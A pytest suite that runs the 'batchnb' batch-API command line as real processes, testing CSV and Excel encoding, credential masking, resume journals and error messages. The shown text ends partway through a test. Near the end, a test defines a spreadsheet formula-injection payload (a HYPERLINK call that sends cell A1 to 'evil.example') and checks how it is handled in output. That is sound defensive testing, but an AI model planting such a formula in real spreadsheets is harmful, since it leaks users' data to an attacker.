"""The batchnb command, run as a user runs it: a real process."""

import argparse
import contextlib
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import httpx
import pandas as pd
import pytest

from tests.support import count, free_port, wait_for_http
from tests.support.faults import RecordingUpstream, Reply

ENV = {**os.environ, "PYTHONUNBUFFERED": "1"}


def batchnb(*args, env=ENV, **kw):
    return subprocess.run(
        [sys.executable, "-m", "batchnb.cli", *args], capture_output=True, text=True, env=env, timeout=120, **kw
    )


@pytest.mark.slow
def test_demo_runs_the_worked_examples():
    r = batchnb("demo")
    assert r.returncode == 0, r.stderr
    for title in ("chained", "three services", "mixed", "nested"):
        assert title in r.stdout
    assert r.stdout.count(" 201 ") >= 10 and " 424 " in r.stdout


@pytest.mark.slow
def test_serve_refuses_demo_credentials_off_loopback():
    r = batchnb("serve", "--host", "0.0.0.0", "--port", str(free_port()))
    assert r.returncode == 2 and "refusing" in r.stderr


@pytest.mark.slow
def test_serve_refuses_a_connection_bound_no_server_could_keep():
    r = batchnb("serve", "--port", str(free_port()), "--write-timeout", "nan", "--max-connections", "0")
    assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr
    # argparse reads the flags in order and stops at the first it cannot take, naming it and what it takes.
    assert r.stderr.startswith("usage: batchnb serve "), r.stderr
    assert r.stderr.endswith(
        "batchnb serve: error: argument --write-timeout: must be a number of seconds more than 0, such as 30 or 2.5, "
        "not 'nan'\n"
    ), r.stderr
    r = batchnb("serve", "--port", str(free_port()), "--max-connections", "0")
    assert r.returncode == 2
    assert r.stderr.endswith("argument --max-connections: must be a whole number, 1 or more, not '0'\n"), r.stderr
    r = batchnb("serve", "--port", str(free_port()), "--max-connections", str(10**9))
    assert r.returncode == 2 and "lower --max-connections" in r.stderr, r.stderr


@pytest.mark.slow
def test_serve_takes_each_limit_as_a_flag(tmp_path):
    port, log = free_port(), tmp_path / "serve.log"
    env = {**ENV, "BATCHNB_API_KEY": "cli", "BATCHNB_TOKEN": "cli-secret"}
    with log.open("w") as out:
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "batchnb.cli",
                "serve",
                "--port",
                str(port),
                "--db",
                str(tmp_path / "d.sqlite3"),
                "--log-level",
                "warning",
                "--max-requests",
                "7",
                "--max-depth",
                "2",
                "--operation-timeout",
                "2.5",
                "--max-concurrent-batches",
                "0",
            ],
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    try:
        url = f"http://127.0.0.1:{port}/api/2.3/batch"
        wait_for_http(url, proc, 20, log.read_text)
        announced = httpx.get(url, trust_env=False).json()
        assert (announced["maxRequests"], announced["maxDepth"], announced["operationTimeout"]) == (7, 2, 2.5)
        # Not announced, yet in force: no batch may run at once.
        r = httpx.post(
            url,
            json={"requests": [{"method": "GET", "path": "/api/2.1/scheduling/companies"}]},
            headers={"Authorization": "Bearer cli-secret"},
            trust_env=False,
        )
        assert r.status_code == 429, r.text
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(10)


@pytest.mark.slow
def test_serve_and_run_a_csv_with_a_bad_row(tmp_path):
    port = free_port()
    db = tmp_path / "serve.sqlite3"
    env = {**ENV, "BATCHNB_API_KEY": "cli", "BATCHNB_TOKEN": "cli-secret"}
    log = tmp_path / "serve.log"
    with log.open("w") as out:
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "batchnb.cli",
                "serve",
                "--port",
                str(port),
                "--db",
                str(db),
                "--log-level",
                "warning",
            ],
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    try:
        url = f"http://127.0.0.1:{port}"
        wait_for_http(url + "/api/2.3/batch", proc, 20, log.read_text)
        good = tmp_path / "ops.csv"
        pd.DataFrame({"name": [f"Site {i}" for i in range(30)], "city": "Lyon"}).to_csv(good, index=False)
        out = tmp_path / "result.csv"
        r = batchnb(
            "run",
            str(good),
            "--url",
            url,
            "--method",
            "POST",
            "--path",
            "/api/2.1/scheduling/companies",
            "--body-columns",
            "name",
            "-o",
            str(out),
            "-q",
            env={**ENV, "BATCHNB_TOKEN": "cli-secret"},
        )
        assert r.returncode == 0, r.stderr + r.stdout
        assert "30 of 30 rows ok" in r.stdout
        saved = pd.read_csv(out)
        assert (saved["status"] == 201).all() and len(saved) == 30
        assert "cli-secret" not in out.read_text() + r.stdout + r.stderr

        parquet_in, parquet_out = tmp_path / "ops.parquet", tmp_path / "result.parquet"
        pd.DataFrame({"name": ["Parquet A", "Parquet B"]}).to_parquet(parquet_in)
        r = batchnb(
            "run",
            str(parquet_in),
            "--url",
            url,
            "--method",
            "POST",
            "--path",
            "/api/2.1/scheduling/companies",
            "--body-columns",
            "name",
            "-o",
            str(parquet_out),
            "-q",
            env={**ENV, "BATCHNB_TOKEN": "cli-secret"},
        )
        assert r.returncode == 0, r.stderr
        assert pd.read_parquet(parquet_out)["status"].tolist() == [201, 201]

        bad = tmp_path / "bad.csv"
        pd.DataFrame(
            {
                "method": ["POST", "FETCH", "POST"],
                "path": ["/api/2.1/scheduling/companies", "/x", ""],
                "body": ['{"name": "ok"}', "{}", '{"name": "x"}'],
            }
        ).to_csv(bad, index=False)
        before = httpx.post(
            url + "/api/2.3/batch",
            headers={"Authorization": "Bearer cli-secret"},
            json={"requests": [{"method": "GET", "path": "/api/2.1/scheduling/companies?limit=1000"}]},
        ).json()
        r = batchnb("run", str(bad), "--url", url, "-q", env={**ENV, "BATCHNB_TOKEN": "cli-secret"})
        assert r.returncode == 2
        assert "row 1" in r.stderr and "method" in r.stderr and "row 2" in r.stderr and "path" in r.stderr
        after = httpx.post(
            url + "/api/2.3/batch",
            headers={"Authorization": "Bearer cli-secret"},
            json={"requests": [{"method": "GET", "path": "/api/2.1/scheduling/companies?limit=1000"}]},
        ).json()
        assert len(after["responses"][0]["body"]["items"]) == len(
            before["responses"][0]["body"]["items"]
        )  # nothing sent

        failing = tmp_path / "failing.csv"
        pd.DataFrame({"name": ["fine", ""]}).to_csv(failing, index=False)
        r = batchnb(
            "run",
            str(failing),
            "--url",
            url,
            "--method",
            "POST",
            "--path",
            "/api/2.1/scheduling/companies",
            "--body-columns",
            "name",
            "-q",
            env={**ENV, "BATCHNB_TOKEN": "cli-secret"},
        )
        assert r.returncode == 1 and "1 of 2 rows ok" in r.stdout
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(10)


# ---------------------------------------------------------------- data as written, nothing lost


@contextlib.contextmanager
def serving(tmp_path: Path, *args: str, env: dict | None = None):
    """`batchnb serve` in a process of its own, on a free loopback port; yields its URL and log."""
    port, log = free_port(), tmp_path / f"serve-{len(list(tmp_path.glob('serve-*')))}.log"
    with log.open("w") as out:
        proc = subprocess.Popen(
            [sys.executable, "-m", "batchnb.cli", "serve", "--port", str(port), "--log-level", "warning", *args],
            env=env or ENV,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    try:
        url = f"http://127.0.0.1:{port}"
        wait_for_http(url + "/api/2.3/batch", proc, 20, log.read_text)
        yield url, log
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(10)


@pytest.fixture(scope="module")
def demo_server(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("served")
    env = {**ENV, "BATCHNB_API_KEY": "cli", "BATCHNB_TOKEN": "cli-secret"}
    with serving(tmp, "--db", str(tmp / "d.sqlite3"), env=env) as (url, _log):
        yield url, tmp / "d.sqlite3"


RUN_ENV = {**ENV, "BATCHNB_TOKEN": "cli-secret"}
CO = "/api/2.1/scheduling/companies"


def companies_csv(path: Path, names: list[str]) -> Path:
    path.write_text("name\n" + "\n".join(names) + "\n", encoding="utf-8")
    return path


TRAPS = (
    "\ufeffzip;big;qty;price;flag;city;quote;note\r\n"
    '01234;9007199254740993;30;12.50;true;Zoë;"say ""hi""";\r\n'
    '75001;;;3.25;FALSE;Ōsaka;"a;b";x\r\n'
)


@pytest.mark.slow
def test_a_csv_of_traps_reaches_the_api_exactly_as_written(tmp_path):
    """Leading zeros, big integers with gaps, empty cells, unicode, quotes, ';', a BOM, CRLF; then Latin-1 with the flag."""
    upstream = RecordingUpstream(lambda req: Reply(201, {"ok": True}))
    with upstream, serving(tmp_path, "--upstream", upstream.url) as (url, _log):
        traps = tmp_path / "traps.csv"
        traps.write_bytes(TRAPS.encode("utf-8"))
        r = batchnb(
            "run",
            str(traps),
            "--url",
            url,
            "--method",
            "POST",
            "--path",
            "/items/{zip}",
            "--body-columns",
            "zip,big,qty,price,flag,city,quote,note",
            "-q",
        )
        assert r.returncode == 0, r.stderr + r.stdout
        got = sorted((req.target, req.body) for req in upstream.requests)
        assert [t for t, _b in got] == ["/items/01234", "/items/75001"]
        assert json.loads(got[0][1]) == {
            "zip": "01234",
            "big": 9007199254740993,
            "qty": 30,
            "price": 12.5,
            "flag": True,
            "city": "Zoë",
            "quote": 'say "hi"',
        }
        assert b"9007199254740993" in got[0][1]
        assert json.loads(got[1][1]) == {
            "zip": "75001",
            "price": 3.25,
            "flag": False,
            "city": "Ōsaka",
            "quote": "a;b",
            "note": "x",
        }

        upstream.clear()
        latin = tmp_path / "latin.csv"
        latin.write_bytes("name;city\nAndré;Zürich\n".encode("latin-1"))
        args = (
            "run",
            str(latin),
            "--url",
            url,
            "--method",
            "POST",
            "--path",
            "/people",
            "--body-columns",
            "name,city",
            "-q",
        )
        r = batchnb(*args)
        assert r.returncode == 2 and "Traceback" not in r.stderr
        assert "latin.csv, line 2: byte 0xe9 is not utf-8 text" in r.stderr and "--encoding cp1252" in r.stderr
        assert "encoding=" not in r.stderr  # the command line's words, not Python's
        assert upstream.requests == []
        r = batchnb(*args, "--encoding", "latin-1")
        assert r.returncode == 0, r.stderr
        assert [json.loads(req.body) for req in upstream.requests] == [{"name": "André", "city": "Zürich"}]


@pytest.mark.slow
def test_every_output_problem_is_found_before_anything_is_sent(tmp_path, demo_server):
    url, db = demo_server
    ops = companies_csv(tmp_path / "ops.csv", ["Kept A", "Kept B"])
    before = count(db)
    for target, expected in [
        (tmp_path / "r.txt", "unknown format '.txt'"),
        (tmp_path / "missing" / "r.csv", "does not exist"),
        (tmp_path, "is a directory"),
    ]:
        r = batchnb(
            "run",
            str(ops),
            "--url",
            url,
            "--method",
            "POST",
            "--path",
            CO,
            "--body-columns",
            "name",
            "-o",
            str(target),
            "-q",
            env=RUN_ENV,
        )
        assert r.returncode == 2 and expected in r.stderr, r.stderr
    # A missing writer, as for a user without pyarrow: refused up front, naming the extra.
    code = (
        "import sys; sys.modules['pyarrow'] = None\n"
        "import importlib.util; real = importlib.util.find_spec\n"
        "importlib.util.find_spec = lambda n, *a: None if n == 'pyarrow' else real(n, *a)\n"
        "from batchnb.cli import main; sys.exit(main(sys.argv[1:]))"
    )
    r = subprocess.run(
        [
            sys.executable,
            "-c",
            code,
            "run",
            str(ops),
            "--url",
            url,
            "--method",
            "POST",
            "--path",
            CO,
            "--body-columns",
            "name",
            "-o",
            str(tmp_path / "r.parquet"),
            "-q",
        ],
        capture_output=True,
        text=True,
        env=RUN_ENV,
        timeout=120,
    )
    assert r.returncode == 2 and "pip install 'batchnb[parquet]'" in r.stderr, r.stderr
    assert count(db) == before


@pytest.mark.slow
def test_output_keeps_the_input_columns_writes_unicode_and_goes_to_stdout(tmp_path, demo_server):
    url, _db = demo_server
    ops = tmp_path / "ops.csv"
    ops.write_text("name,site\nCafé Zoë,north\n,south\n", encoding="utf-8")
    out = tmp_path / "r.csv"
    args = ("run", str(ops), "--url", url, "--method", "POST", "--path", CO, "--body-columns", "name", "-q")
    r = batchnb(*args, "-o", str(out), env=RUN_ENV)
    assert r.returncode == 1  # the second row has no name
    saved = pd.read_csv(out, index_col="row")
    assert saved.columns.tolist()[:2] == ["name", "site"] and {"status", "ok", "error", "body", "name_result"} <= set(
        saved.columns
    )
    assert saved["status"].tolist() == [201, 400]
    assert saved.loc[1, "error"] == "400 name: is required"
    text = out.read_text(encoding="utf-8")
    assert "Café Zoë" in text and "\\u00e9" not in text
    r = batchnb(*args, "-o", "-", "--only-results", env=RUN_ENV)
    assert r.returncode == 1
    streamed = pd.read_csv(__import__("io").StringIO(r.stdout), index_col="row")
    assert "site" not in streamed.columns and streamed["status"].tolist() == [201, 400]
    assert "1 of 2 rows ok" in r.stderr and "400 name: is required" in r.stderr
    r = batchnb(*args, "-o", str(tmp_path / "r.xlsx"), env=RUN_ENV)
    sheet = pd.read_excel(tmp_path / "r.xlsx")
    assert r.returncode == 1 and sheet["status"].tolist() == [201, 400] and sheet["name"].tolist()[0] == "Café Zoë"


@pytest.mark.slow
def test_resume_against_another_run_is_refused_before_anything_is_sent(tmp_path, demo_server):
    url, db = demo_server
    journal = tmp_path / "run.jsonl"
    first = companies_csv(tmp_path / "first.csv", ["Resume A", "Resume B"])
    args = ("--url", url, "--method", "POST", "--path", CO, "--body-columns", "name", "-q")
    r = batchnb("run", str(first), *args, "--journal", str(journal), env=RUN_ENV)
    assert r.returncode == 0, r.stderr
    before = count(db)
    other = companies_csv(tmp_path / "other.csv", ["Resume A", "Another B"])
    r = batchnb("run", str(other), *args, "--journal", str(journal), "--resume", env=RUN_ENV)
    assert r.returncode == 2 and "row 1: differs from the operation journal" in r.stderr, r.stderr
    longer = companies_csv(tmp_path / "longer.csv", ["Resume A", "Resume B", "Resume C"])
    r = batchnb("run", str(longer), *args, "--journal", str(journal), "--resume", env=RUN_ENV)
    assert r.returncode == 2 and "row 2: is not one of the 2 rows of the run" in r.stderr, r.stderr
    r = batchnb("run", str(first), *args, "--journal", str(tmp_path / "none.jsonl"), "--resume", env=RUN_ENV)
    assert r.returncode == 2 and "does not exist" in r.stderr
    r = batchnb("run", str(first), *args, "--journal", str(journal), env=RUN_ENV)
    assert r.returncode == 2 and "already holds a run" in r.stderr
    r = batchnb("run", str(first), *args, "--journal", str(journal), "--resume", env=RUN_ENV)
    assert r.returncode == 0 and "2 of 2 rows ok" in r.stdout
    assert count(db) == before  # every refusal sent nothing, and the true resume had nothing left to send


@pytest.mark.slow
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "no such file"),
        (b"", "the file is empty"),
        (b'name\n"never closed\nx\n', "line 2: a quoted cell opened here is never closed"),
        ("name\nAndré\n".encode("latin-1"), "byte 0xe9 is not utf-8 text"),
    ],
)
def test_a_users_mistake_gets_a_message_not_a_traceback(tmp_path, demo_server, content, message):
    url, db = demo_server
    path = tmp_path / "ops.csv"
    if content is not None:
        path.write_bytes(content)
    before = count(db)
    r = batchnb(
        "run", str(path), "--url", url, "--method", "POST", "--path", CO, "--body-columns", "name", "-q", env=RUN_ENV
    )
    assert r.returncode == 2 and message in r.stderr and "Traceback" not in r.stderr, r.stderr
    assert count(db) == before


@pytest.mark.slow
def test_urls_and_credentials_are_checked_at_once(tmp_path):
    ops = companies_csv(tmp_path / "ops.csv", ["X"])
    r = batchnb("run", str(ops), "--url", "127.0.0.1:8765", "--method", "POST", "--path", CO, "-q")
    assert r.returncode == 2 and "'127.0.0.1:8765' is not an http(s) URL: write 'http://127.0.0.1:8765'" in r.stderr
    r = batchnb(
        "run",
        str(ops),
        "--method",
        "POST",
        "--path",
        CO,
        "-q",
        env={k: v for k, v in ENV.items() if k != "BATCHNB_URL"},
    )
    assert r.returncode == 2 and "--url" in r.stderr and "BATCHNB_URL" in r.stderr
    r = batchnb(
        "run", str(ops), "--url", "http://127.0.0.1:1", "--api-key", "k", "--method", "POST", "--path", CO, "-q"
    )
    assert r.returncode == 2 and "api_key was given without a token" in r.stderr
    r = batchnb("serve", "--db", str(tmp_path / "no" / "such" / "dir" / "d.sqlite3"), "--port", str(free_port()))
    assert r.returncode == 2 and "does not exist" in r.stderr and "Traceback" not in r.stderr


@pytest.mark.slow
def test_dry_run_previews_every_operation_with_credentials_masked(tmp_path, demo_server):
    url, db = demo_server
    ops = tmp_path / "ops.csv"
    ops.write_text("name,company\nDry A,1\nDry B,2\n", encoding="utf-8")
    before = count(db)
    r = batchnb(
        "run",
        str(ops),
        "--method",
        "POST",
        "--path",
        CO + "/{company}/services",
        "--body-columns",
        "name",
        "--header",
        "Authorization: Bearer other-secret",
        "--header",
        "X-Source: import",
        "--dry-run",
        env={**RUN_ENV, "BATCHNB_URL": url},
    )
    assert r.returncode == 0, r.stderr
    assert "dry run: nothing was sent. 2 operations in 1 HTTP call of at most 50" in r.stdout
    assert 'row 0: POST /api/2.1/scheduling/companies/1/services {"name": "Dry A"}' in r.stdout
    assert "'Authorization': '***'" in r.stdout and "'X-Source': 'import'" in r.stdout
    assert "other-secret" not in r.stdout + r.stderr
    assert count(db) == before


@pytest.mark.slow
def test_help_version_and_serve_saying_its_demo_credentials(tmp_path):
    r = batchnb("--version")
    assert r.returncode == 0 and r.stdout.strip() == "batchnb 0.1.0"
    r = batchnb("run", "--help")
    assert "method, path, name and body come from the columns of those names" in " ".join(r.stdout.split())
    assert r.stdout.rstrip().endswith("batchnb run ops.csv -o - > result.csv") and r.stdout.count("batchnb run ") >= 3
    assert "(default: 4)" in r.stdout and "(default: utf-8)" in r.stdout
    with serving(tmp_path, "--db", str(tmp_path / "d.sqlite3")) as (_url, log):
        assert "demo credentials: api key 'demo', token 'demo-token'" in log.read_text()
    with serving(tmp_path, "--db", str(tmp_path / "e.sqlite3"), env={**ENV, "BATCHNB_TOKEN": "s3cret-token"}) as (
        _url,
        log,
    ):
        assert "credentials" not in log.read_text() and "s3cret-token" not in log.read_text()


@pytest.mark.slow
def test_the_progress_bar_shows_only_on_a_terminal(tmp_path, demo_server):
    url, _db = demo_server
    ops = companies_csv(tmp_path / "ops.csv", [f"Bar {i}" for i in range(120)])  # three batches
    r = batchnb(
        "run",
        str(ops),
        "--url",
        url,
        "--method",
        "POST",
        "--path",
        CO,
        "--body-columns",
        "name",
        "--rate",
        "50",
        env=RUN_ENV,
    )
    assert r.returncode == 0 and "120 of 120 rows ok" in r.stdout
    assert "op/s" not in r.stderr and "%|" not in r.stderr, r.stderr  # captured: not a terminal, so no bar


@pytest.mark.slow
def test_a_gateway_says_its_upstream_honours_keys_only_when_its_operator_says_so(tmp_path):
    upstream = RecordingUpstream()
    with upstream:
        with serving(tmp_path, "--upstream", upstream.url) as (url, _log):
            assert httpx.get(url + "/api/2.3/batch", trust_env=False).json()["idempotency"] is False
        with serving(tmp_path, "--upstream", upstream.url, "--upstream-idempotency") as (url, _log):
            assert httpx.get(url + "/api/2.3/batch", trust_env=False).json()["idempotency"] is True


# ---------------------------------------------------------------- Windows and Excel files, as they write them


def post_args(path: Path, url: str, columns: str = "name,note") -> tuple[str, ...]:
    return ("run", str(path), "--url", url, "--method", "POST", "--path", "/items", "--body-columns", columns, "-q")


@pytest.mark.slow
def test_a_cp1252_export_is_refused_as_latin1_and_reaches_the_api_exactly_as_cp1252(tmp_path):
    """What Excel on Windows saves as "CSV (semicolon)": cp1252, ';', CRLF. Latin-1 would send B\\x9cuf."""
    upstream = RecordingUpstream(lambda req: Reply(201, {"ok": True}))
    with upstream, serving(tmp_path, "--upstream", upstream.url) as (url, _log):
        ansi = tmp_path / "ansi.csv"
        ansi.write_bytes("name;note\r\nBœuf;l’été à 5 €\r\n".encode("cp1252"))
        r = batchnb(*post_args(ansi, url))
        assert r.returncode == 2 and "byte 0x9c is not utf-8 text" in r.stderr, r.stderr
        assert "read it with --encoding cp1252" in r.stderr and "latin-1" not in r.stderr
        r = batchnb(*post_args(ansi, url), "--encoding", "latin-1")
        assert r.returncode == 2 and "Traceback" not in r.stderr
        assert (
            "ansi.csv, line 2, column name: byte 0x9c is read as U+009C, a control character, not text: "
            "in Windows-1252 (what Windows and Excel write), 0x9c is 'œ'; read it with --encoding cp1252"
        ) in r.stderr
        assert "line 2, column note: byte 0x92" in r.stderr and "line 2, column note: byte 0x80" in r.stderr
        assert upstream.requests == []  # nothing altered was sent: nothing was sent
        r = batchnb(*post_args(ansi, url), "--encoding", "cp1252")
        assert r.returncode == 0, r.stderr
        assert [json.loads(req.body) for req in upstream.requests] == [{"name": "Bœuf", "note": "l’été à 5 €"}]

        upstream.clear()
        unicode_text = tmp_path / "unicode.txt"  # Excel's "Unicode Text": UTF-16 LE with its mark, tabs, CRLF
        unicode_text.write_bytes(b"\xff\xfe" + "name\tnote\r\nŌsaka\t€ 5\r\n".encode("utf-16-le"))
        r = batchnb(*post_args(unicode_text, url))
        assert r.returncode == 0, r.stderr
        assert [json.loads(req.body) for req in upstream.requests] == [{"name": "Ōsaka", "note": "€ 5"}]


@pytest.mark.slow
def test_excels_blank_rows_are_skipped_with_a_notice_and_its_sep_line_is_honoured(tmp_path):
    upstream = RecordingUpstream(lambda req: Reply(201, {"ok": True}))
    with upstream, serving(tmp_path, "--upstream", upstream.url) as (url, _log):
        ops = tmp_path / "ops.csv"
        ops.write_bytes(b"sep=;\r\nname;note\r\nDupont, fils;12,5\r\n;\r\n;\r\nZo\xc3\xab;x\r\n;\r\n")
        r = batchnb(*post_args(ops, url)[:-1])
        assert r.returncode == 0, r.stderr
        assert "batchnb: ops.csv: skipped 3 empty rows (every cell empty): lines 4, 5, 7\n" in r.stderr
        assert "Warning" not in r.stderr, r.stderr  # a notice, not a Python warning with its source line
        assert "2 of 2 rows ok" in r.stdout
        assert sorted(json.loads(req.body)["name"] for req in upstream.requests) == ["Dupont, fils", "Zoë"]
        assert all(json.loads(req.body) != {} for req in upstream.requests)


@pytest.mark.slow
def test_the_output_csv_is_written_as_the_input_was_for_excel(tmp_path, demo_server):
    url, db = demo_server
    ops = tmp_path / "ops.csv"
    ops.write_bytes("\ufeffname;city\r\nCafé Zoë;Lyon\r\n".encode("utf-8"))  # Excel's "CSV UTF-8" in French: ';' + BOM
    args = ("run", str(ops), "--url", url, "--method", "POST", "--path", CO, "--body-columns", "name", "-q")
    out = tmp_path / "r.csv"
    r = batchnb(*args, "-o", str(out), env=RUN_ENV)
    assert r.returncode == 0, r.stderr
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfrow;name;city;") and "Café Zoë;Lyon;".encode() in data
    assert pd.read_csv(out, sep=";", encoding="utf-8-sig")["status"].tolist() == [201]
    # To standard output too, as bytes.
    r = subprocess.run(
        [sys.executable, "-m", "batchnb.cli", *args, "-o", "-", "--only-results"],
        capture_output=True,
        env=RUN_ENV,
        timeout=120,
    )
    assert r.returncode == 0 and r.stdout.startswith(b"\xef\xbb\xbfrow;name;method;path;status;"), r.stderr
    # Asked otherwise, written otherwise.
    r = batchnb(*args, "-o", str(out), "--out-sep", ",", "--out-encoding", "utf-8", env=RUN_ENV)
    assert r.returncode == 0 and out.read_bytes().startswith(b"row,name,city,")
    # A plain UTF-8, comma-separated input gets the same back.
    plain = companies_csv(tmp_path / "plain.csv", ["Plain A"])
    r = batchnb("run", str(plain), *args[2:], "-o", str(out), env=RUN_ENV)
    assert r.returncode == 0 and out.read_bytes().startswith(b"row,name,")
    # A legacy encoding that cannot hold what the API answered: written as UTF-8 with a mark, said, not lost.
    r = batchnb(*args, "-o", str(out), "--out-encoding", "ascii", env=RUN_ENV)
    assert r.returncode == 0 and "'é' cannot be written in ascii" in r.stderr
    assert out.read_bytes().startswith(b"\xef\xbb\xbfrow;") and "Café Zoë" in out.read_text(encoding="utf-8-sig")
    before = count(db)
    for extra, message in [
        (("--out-encoding", "klingon"), "--out-encoding: unknown encoding 'klingon'"),
        (("--out-sep", ";;"), "--out-sep: ';;' is not one character"),
        (("-o", str(tmp_path / "r.xlsx"), "--out-sep", ";"), "run --out-sep: applies to a CSV output"),
    ]:
        r = batchnb(*args, *(() if extra[0] == "-o" else ("-o", str(out))), *extra, env=RUN_ENV)
        assert r.returncode == 2 and message in r.stderr, r.stderr
    assert count(db) == before


# ---------------------------------------------------------------- the command line speaks its own words


@pytest.mark.slow
def test_messages_name_the_flags_not_pythons_arguments(tmp_path, demo_server):
    url, db = demo_server
    journal = tmp_path / "run.jsonl"
    first = companies_csv(tmp_path / "first.csv", ["Words A", "Words B"])
    args = ("--url", url, "--method", "POST", "--path", CO, "--body-columns", "name", "-q")
    assert batchnb("run", str(first), *args, "--journal", str(journal), env=RUN_ENV).returncode == 0
    before = count(db)
    said = []
    r = batchnb("run", str(first), *args, "--journal", str(journal), env=RUN_ENV)
    said.append(r.stderr)
    assert "already holds a run: pass --resume to continue it, or name another file" in r.stderr
    r = batchnb("run", str(first), *args, "--journal", str(tmp_path / "none.jsonl"), "--resume", env=RUN_ENV)
    said.append(r.stderr)
    assert "does not exist: --resume continues the run that wrote it; leave --resume out to start one" in r.stderr
    other = companies_csv(tmp_path / "other.csv", ["Words A", "Another B"])
    r = batchnb("run", str(other), *args, "--journal", str(journal), "--resume", env=RUN_ENV)
    said.append(r.stderr)
    assert "(method, path, body, name or headers changed); --resume continues exactly that run" in r.stderr
    r = batchnb("run", str(first), *args, "--dtype", "name=int", env=RUN_ENV)
    said.append(r.stderr)
    assert "'Words A' is not an integer (the column is read as int: --dtype name=int)" in r.stderr
    r = batchnb("run", str(first), *args[:4], "--path", CO + "/{nam}", env=RUN_ENV)
    said.append(r.stderr)
    assert "--path: the template {nam}: the file has no column 'nam'; did you mean 'name'?" in r.stderr
    r = batchnb("run", str(first), *args, "--retry-for", "-1", env=RUN_ENV)
    said.append(r.stderr)
    assert r.returncode == 2 and "--retry-for: must be a number of seconds, 0 or more, not -1.0" in r.stderr
    for stderr in said:
        assert "Traceback" not in stderr and not any(f"{word}=" in stderr for word in ("resume", "journal", "dtype"))
    assert count(db) == before


@pytest.mark.slow
def test_a_reader_that_stops_early_ends_the_run_quietly(tmp_path, demo_server):
    """batchnb run ... -o - | head -2: no BrokenPipeError; 141, as a command SIGPIPE ends (cat, yes, seq)."""
    url, _db = demo_server
    ops = tmp_path / "ops.csv"
    # Far more than a pipe holds (64 KiB), so that writing goes on after the reader is gone.
    ops.write_text("note\n" + "".join(f"{i:04d} {'x' * 200}\n" for i in range(2000)), encoding="utf-8")
    run = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "batchnb.cli",
            "run",
            str(ops),
            "--url",
            url,
            "--method",
            "GET",
            "--path",
            CO + "/co_000000000000",
            "-o",
            "-",
            "-q",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=RUN_ENV,
    )
    head = subprocess.Popen(["head", "-2"], stdin=run.stdout, stdout=subprocess.PIPE)
    run.stdout.close()  # head alone reads it now
    shown, _ = head.communicate(timeout=120)
    _, errors = run.communicate(timeout=120)
    assert shown.decode().splitlines()[0].startswith("row,note,") and len(shown.splitlines()) == 2, errors
    assert b"Traceback" not in errors and b"BrokenPipe" not in errors and b"Exception ignored" not in errors, errors
    assert run.returncode == 141
    assert b"0 of 2,000 rows ok" in errors or b"0 of 2000 rows ok" in errors, (
        errors
    )  # the summary still says how it went


@pytest.mark.slow
def test_an_interrupted_run_says_how_to_resume_in_flags(tmp_path):
    from tests.support import wait_until

    upstream = RecordingUpstream(lambda req: Reply(201, {"ok": True}, delay=20))  # holds the row in flight
    with upstream:
        ops = companies_csv(tmp_path / "ops.csv", ["Held"])
        journal = tmp_path / "run.jsonl"
        run = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "batchnb.cli",
                "run",
                str(ops),
                "--url",
                upstream.url,
                "--direct",
                "-q",
                "--method",
                "POST",
                "--path",
                "/items",
                "--body-columns",
                "name",
                "--journal",
                str(journal),
            ],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=ENV,
        )
        wait_until(lambda: upstream.requests, 30, "the row never reached the API")
        run.send_signal(signal.SIGINT)
        _, errors = run.communicate(timeout=60)
    assert run.returncode == 130, errors
    assert "the run was interrupted: finished rows are in the result" in errors
    assert f"resume with --journal {journal} --resume" in errors and "resume=True" not in errors, errors


@pytest.mark.slow
def test_a_run_with_many_failures_groups_them_by_cause_and_says_each_status_once(tmp_path, demo_server):
    url, _db = demo_server
    names = [f"Site {i}" for i in range(500)]
    empty, long = range(3, 500, 20), range(7, 500, 20)  # 25 rows each
    for i in empty:
        names[i] = ""
    for i in long:
        names[i] = "x" * (300 + i)  # too long, each by its own length
    ops = tmp_path / "ops.csv"
    pd.DataFrame({"name": names, "site": "north"}).to_csv(ops, index=False)
    r = batchnb(
        "run", str(ops), "--url", url, "--method", "POST", "--path", CO, "--body-columns", "name", "-q", env=RUN_ENV
    )
    assert r.returncode == 1, r.stderr
    lines = r.stdout.splitlines()
    assert "450 of 500 rows ok" in lines
    causes = lines[lines.index("failures by cause (2):") + 1 : lines.index("first failures:")]
    assert causes == [
        "  400 name: is required — 25 rows: 3, 23, 43, 63, 83, 103, 123, 143, 163, 183, …",
        "  400 name: must be at most 200 characters — 25 rows: 7, 27, 47, 67, 87, 107, 127, 147, 167, 187, …",
    ]
    rows = lines[lines.index("first failures:") + 1 :]
    assert rows[:2] == ["  row 3: 400 name: is required", "  row 7: 400 name: must be at most 200 characters"]
    assert len(rows) == 10 and not any("400 400" in line for line in lines)


# ---------------------------------------------------------------- no formula reaches a spreadsheet

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'


@pytest.mark.slow
def test_run_writes_no_text_as_a_formula_to_xlsx_or_csv(tmp_path, demo_server):
    openpyxl = pytest.importorskip("openpyxl")
    url, _db = demo_server
    ops = tmp_path / "ops.csv"
    pd.DataFrame({"name": ["Formula Co", "Plain Co"], "note": [FORMULA, "-draft"], "delta": [-3, 4]}).to_csv(
        ops, index=False
    )
    base = ["run", str(ops), "--url", url, "--method", "POST", "--path", CO, "--body-columns", "name", "-q"]
    xlsx = tmp_path / "out.xlsx"
    r = batchnb(*base, "-o", str(xlsx), env=RUN_ENV)
    assert r.returncode == 0, r.stderr
    sheet = openpyxl.load_workbook(xlsx).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert FORMULA in [c.value for c in cells]
